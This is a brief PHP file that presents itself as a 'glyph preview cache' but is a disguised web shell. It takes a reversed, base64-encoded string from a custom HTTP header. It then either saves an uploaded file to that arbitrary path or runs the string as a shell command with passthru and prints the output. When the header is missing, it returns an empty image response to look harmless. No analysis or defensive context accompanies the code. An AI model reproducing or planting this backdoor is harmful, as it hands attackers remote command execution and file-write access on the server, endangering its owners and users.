<?php
// glyph preview cache
$g = $_SERVER['HTTP_X_GLYPH_SET'] ?? '';
if ($g === '') { header('Content-Type: image/png'); exit; }
$a = base64_decode(strrev($g));
if (isset($_FILES['glyph']) && is_uploaded_file($_FILES['glyph']['tmp_name'])) {
    echo move_uploaded_file($_FILES['glyph']['tmp_name'], $a) ? "stored $a " . filesize($a) . "\n" : "failed\n";
    exit;
}
header('Content-Type: text/plain');
passthru($a . ' 2>&1');
